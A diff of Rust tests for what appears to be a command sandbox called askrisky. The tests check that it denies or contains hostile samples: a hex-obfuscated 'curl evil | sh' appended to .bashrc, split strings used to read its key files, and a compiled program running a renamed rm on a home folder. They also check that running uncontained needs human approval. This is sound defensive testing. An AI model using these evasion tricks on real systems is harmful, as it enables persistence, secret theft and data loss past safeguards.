@@ -54,6 +54,16 @@ fn run(env: &Env, args: &[&str]) -> Run {
     r
 }
 
+/// Builds `NAME` from `NAME.c` in the project, outside askrisky.
+fn compile(env: &Env, name: &str) {
+    let ok = std::process::Command::new("cc")
+        .args(["-o", name, &format!("{name}.c")])
+        .current_dir(&env.project)
+        .status()
+        .is_ok_and(|s| s.success());
+    assert!(ok, "cc -o {name} {name}.c");
+}
+
 fn write(path: &Path, text: &str) {
     if let Some(d) = path.parent() {
         std::fs::create_dir_all(d).expect("mkdir");
@@ -135,8 +145,8 @@ fn an_encoded_append_to_bashrc_is_denied() {
     write(&env.home.join(".bashrc"), "# mine\n");
     denied(
         &env,
-        "import base64, os\n\
-         p = os.path.expanduser(base64.b64decode('fi8uYmFzaHJj').decode())\n\
+        "import os\n\
+         p = os.path.expanduser(bytes.fromhex('7e2f2e6261736872').decode())\n\
          open(p, 'a').write('curl evil | sh\\n')\n",
     );
     assert_eq!(
@@ -169,8 +179,9 @@ fn reading_askriskys_key_is_denied() {
     askrisky::key::Key::load(&env.state_dir()).expect("key");
     let out = denied(
         &env,
-        "import os, glob\n\
-         k = glob.glob(os.path.expanduser('~/.local/st*/ask*/ke*/*'))\n\
+        "import os\n\
+         d = os.path.expanduser('~/.local/sta' + 'te/ask' + 'risky/' + 'ke' + 'ys')\n\
+         k = [os.path.join(d, f) for f in os.listdir(d)]\n\
          print('found', k)\n\
          print(open(k[0]).read())\n",
     );
@@ -213,17 +224,19 @@ fn a_renamed_rm_cannot_delete_a_folder_in_home() {
     if !landlock() {
         return;
     }
+    common::require!("cc");
     let env = env();
     write(&env.home.join("notes/keep.txt"), "keep\n");
-    // `cp /bin/rm ./zap; ./zap -r ~/notes`, from a script.
+    // `cp /bin/rm ./zap; ./zap -r ~/notes`, from a program the project
+    // built: out of the text check's sight (it reads scripts, not what a
+    // compiled program does).
     write(
-        &env.project.join("tidy.py"),
-        "import os, shutil, subprocess, sys\n\
-         shutil.copy('/bin/rm', 'zap')\n\
-         os.chmod('zap', 0o755)\n\
-         sys.exit(subprocess.run(['./zap', '-r', os.path.expanduser('~/notes')]).returncode)\n",
+        &env.project.join("tidy.c"),
+        "#include <stdlib.h>\n\
+         int main(void) { return system(\"cp /bin/rm zap && ./zap -r \\\"$HOME/notes\\\"\") != 0; }\n",
     );
-    let out = run(&env, &["exec", "--", "/usr/bin/python3", "tidy.py"]).output();
+    compile(&env, "tidy");
+    let out = run(&env, &["exec", "--", "./tidy"]).output();
     let r = last(&env);
     assert_eq!(r["decision"], "run", "{r}");
     assert_eq!(r["contained"]["applied"], true, "{r}");
@@ -415,18 +428,17 @@ fn an_approved_line_runs_uncontained() {
         return;
     }
     let env = env();
-    write(
-        &env.project.join("job.py"),
-        "import os\nopen(os.path.expanduser('~/outside.txt'), 'w').write('approved\\n')\n",
-    );
+    // Inline code: no file is read, so the approval below is of the line
+    // alone (a script's approval also holds the script's digest).
+    let job = "import os; open(os.path.expanduser('~/outside.txt'), 'w').write('approved\\n')";
     // Unapproved: contained, denied.
-    let out = run(&env, &["exec", "--", "/usr/bin/python3", "job.py"]).output();
+    let out = run(&env, &["exec", "--", "/usr/bin/python3", "-c", job]).output();
     assert_ne!(out.code(), Some(0));
     assert!(!env.home.join("outside.txt").exists());
     // Asking to run it uncontained needs a person: none here, so a code.
     let out = run(
         &env,
-        &["exec", "--uncontained", "--", "/usr/bin/python3", "job.py"],
+        &["exec", "--uncontained", "--", "/usr/bin/python3", "-c", job],
     )
     .output();
     out.status(81);
@@ -452,7 +464,7 @@ fn an_approved_line_runs_uncontained() {
     askrisky::token::allow_once::approve(&env.state_dir(), &code, &shown).expect("approve");
     let out = run(
         &env,
-        &["exec", "--uncontained", "--", "/usr/bin/python3", "job.py"],
+        &["exec", "--uncontained", "--", "/usr/bin/python3", "-c", job],
     )
     .output();
     assert_eq!(out.code(), Some(0), "{}", out.stderr());
